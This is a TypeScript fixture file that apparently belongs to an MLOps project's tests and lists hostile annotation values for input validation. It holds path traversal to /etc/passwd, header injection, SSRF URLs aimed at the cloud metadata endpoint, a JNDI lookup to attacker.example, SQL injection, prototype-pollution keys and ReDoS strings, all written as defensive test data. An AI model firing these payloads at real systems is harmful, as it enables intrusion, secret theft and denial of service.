/*
 * Copyright 2026 The MLOps Maturity Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

/** What annotations may hold that nobody meant well. */
export const hostileValues: readonly string[] = [
  '',
  ' ',
  '/',
  '.',
  '..',
  '../..',
  '../../etc/passwd',
  '%2e%2e%2f%2e%2e',
  'a/../../b',
  'a//b',
  'a/b/c/d/e/f',
  'a/b?x=1#y',
  'a\\b',
  'a\0b',
  'a\r\nx-injected: 1',
  'https://attacker.example/a/b',
  'url:https://attacker.example/a/b',
  'url:http://169.254.169.254/latest/meta-data/',
  'url:file:///etc/passwd',
  'url:javascript:alert(1)',
  '//attacker.example/a',
  'user:password@attacker.example/a',
  '${jndi:ldap://attacker.example}',
  '{{constructor}}',
  '__proto__',
  'constructor',
  '"};//',
  "' OR 1=1 --",
  '\u202Emoc.elpmaxe\u202C/a',
  '\uD800/\uDFFF',
  'x'.repeat(10_000),
  'a/'.repeat(5_000),
  ','.repeat(5_000),
  // Takes for ever where a pattern looks for slashes at the end.
  `x${'/'.repeat(100_000)}y`,
];
